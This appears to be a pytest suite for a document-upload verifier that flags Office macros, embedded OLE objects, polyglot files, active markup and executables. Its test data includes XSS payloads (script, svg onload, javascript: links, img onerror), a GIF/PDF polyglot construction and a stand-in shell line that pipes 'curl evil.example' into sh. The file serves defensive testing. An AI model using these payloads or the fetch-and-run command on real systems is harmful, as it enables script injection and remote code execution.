"""Office macros, polyglots, active markup and unscannable members: flagged, never passed."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from proof_fixtures import (
    PE_HEADER,
    UPLOADED_AT,
    build_pdf,
    build_zip,
    check_bytes,
    codes,
    docx,
    encode_image,
    photo,
    prose,
)

from service.verification.sniffing import ALLOWED_MIMES, sniff_mime
from service.verification.thresholds import VerificationThresholds

REPO = Path(__file__).resolve().parents[2]
LONG_AGO = UPLOADED_AT.replace(year=2024)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
MANIFEST = b'<?xml version="1.0"?><Types/>'


def package(folder: str, **extra: bytes) -> bytes:
    parts = {
        "[Content_Types].xml": MANIFEST,
        f"{folder}/document.xml": b"<doc>" + prose(400).encode() + b"</doc>",
    }
    return build_zip({**parts, **{name.replace("__", "/"): body for name, body in extra.items()}})


@pytest.mark.parametrize(
    ("folder", "mime"),
    [
        ("word", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("xl", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("ppt", "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    ],
)
def test_a_vba_project_in_any_office_document_is_flagged(
    tmp_path: Path, folder: str, mime: str
) -> None:
    data = build_zip(
        {
            "[Content_Types].xml": MANIFEST,
            f"{folder}/document.xml": b"<doc>" + prose(400).encode() + b"</doc>",
            f"{folder}/vbaProject.bin": OLE,
        }
    )
    result = check_bytes(tmp_path, data)
    assert result.sniffed_mime == mime
    assert {"zip.macros", "zip.embedded_ole"} <= codes(result.check)
    assert result.check.issues


def test_an_ole_object_embedded_in_a_document_is_flagged(tmp_path: Path) -> None:
    data = build_zip(
        {
            "[Content_Types].xml": MANIFEST,
            "word/document.xml": b"<doc>" + prose(400).encode() + b"</doc>",
            "word/embeddings/oleObject1.bin": OLE,
        }
    )
    assert codes(check_bytes(tmp_path, data).check) == {"zip.embedded_ole"}


def test_excel_4_macro_sheets_are_flagged(tmp_path: Path) -> None:
    data = build_zip(
        {
            "[Content_Types].xml": MANIFEST,
            "xl/workbook.xml": b"<workbook/>",
            "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>",
        }
    )
    assert "zip.macros" in codes(check_bytes(tmp_path, data).check)


def test_a_plain_office_document_stays_clean(tmp_path: Path) -> None:
    assert check_bytes(tmp_path, docx()).check.issues == ()


def test_a_pdf_with_a_zip_appended_is_a_polyglot(tmp_path: Path) -> None:
    pdf = build_pdf([prose(1500), prose(1500)], created_at=LONG_AGO)
    appended = pdf + build_zip({"setup.exe": PE_HEADER + bytes(512)})
    result = check_bytes(tmp_path, appended)
    assert result.sniffed_mime == "application/pdf"
    assert codes(result.check) == {"file.polyglot"}
    assert check_bytes(tmp_path, pdf).check.issues == ()


def test_an_image_with_a_zip_appended_is_a_polyglot(tmp_path: Path) -> None:
    jpeg = encode_image(photo(3), "JPEG", with_exif=True)
    result = check_bytes(tmp_path, jpeg + build_zip({"a.txt": prose(300).encode()}))
    assert result.sniffed_mime == "image/jpeg"
    assert "file.polyglot" in codes(result.check)


def test_a_gif_that_is_also_a_pdf_is_a_polyglot(tmp_path: Path) -> None:
    gif = encode_image(photo(4), "GIF")
    pdf = build_pdf([prose(1500)], created_at=LONG_AGO)
    # GIF readers stop at the trailer; PDF readers find "%PDF-" in the first kilobyte.
    both = gif[:13] + b"!\xfe" + bytes([len(pdf[:200])]) + pdf[:200] + b"\x00" + gif[13:]
    result = check_bytes(tmp_path, both)
    assert result.sniffed_mime == "image/gif"
    assert "file.polyglot" in codes(result.check)


def test_bytes_before_a_pdf_header_are_a_polyglot(tmp_path: Path) -> None:
    pdf = build_pdf([prose(1500), prose(1500)], created_at=LONG_AGO)
    result = check_bytes(tmp_path, b"<html><!-- " + pdf)
    assert "file.polyglot" in codes(result.check) or result.sniffed_mime not in ALLOWED_MIMES


@pytest.mark.parametrize(
    "markup",
    [
        b"<script>fetch('/api/admin')</script>",
        b"<svg onload=alert(1)>",
        b"<!DOCTYPE html><p>receipt</p>",
        b"<a href='javascript:alert(1)'>track</a>",
        b"<img src=x onerror=alert(1)>",
    ],
)
def test_text_holding_active_markup_is_flagged(tmp_path: Path, markup: bytes) -> None:
    data = prose(300).encode() + b"\n" + markup + b"\n" + prose(300).encode()
    result = check_bytes(tmp_path, data)
    if result.sniffed_mime == "text/plain":
        assert "file.active_markup" in codes(result.check)
    else:  # libmagic names it HTML or SVG: refused outright
        assert result.sniffed_mime not in ALLOWED_MIMES
        assert not result.check.passed


def test_plain_prose_is_no_markup(tmp_path: Path) -> None:
    text = prose(600) + " 3 < 4 and 5 > 2; see https://example.com/receipt."
    assert check_bytes(tmp_path, text.encode()).check.issues == ()


@pytest.mark.parametrize(
    "data",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        PE_HEADER + bytes(4096),
        b"\x7fELF\x02\x01\x01" + bytes(4096),
        b"#!/bin/sh\ncurl evil.example | sh\n" + b"#" * 200,
    ],
    ids=["svg-script", "svg-onload", "html", "exe", "elf", "shell"],
)
def test_svg_html_and_programs_are_not_allowed_types(tmp_path: Path, data: bytes) -> None:
    assert sniff_mime(data) not in ALLOWED_MIMES
    result = check_bytes(tmp_path, data, name="invoice.pdf", declared_mime="application/pdf")
    assert "file.type_not_allowed" in codes(result.check)
    assert not result.check.passed


def test_a_member_larger_than_the_scanner_examines_is_flagged(tmp_path: Path) -> None:
    # Hex digits compress about 2:1, far from a bomb's ratio.
    data = build_zip({"notes.txt": os.urandom(600_000).hex().encode()})
    small_scanner = VerificationThresholds(scanner_max_file_bytes=1024 * 1024)
    assert codes(check_bytes(tmp_path, data, thresholds=small_scanner).check) == {
        "zip.member_unscannable"
    }
    assert check_bytes(tmp_path, data).check.issues == ()


def test_the_scanner_limit_matches_clamds_max_file_size() -> None:
    conf = (REPO / "deploy" / "clamav" / "clamd.conf.in").read_text()
    found = re.search(r"^MaxFileSize (\d+)M$", conf, re.MULTILINE)
    assert found is not None
    assert int(found.group(1)) * 1024 * 1024 == VerificationThresholds().scanner_max_file_bytes
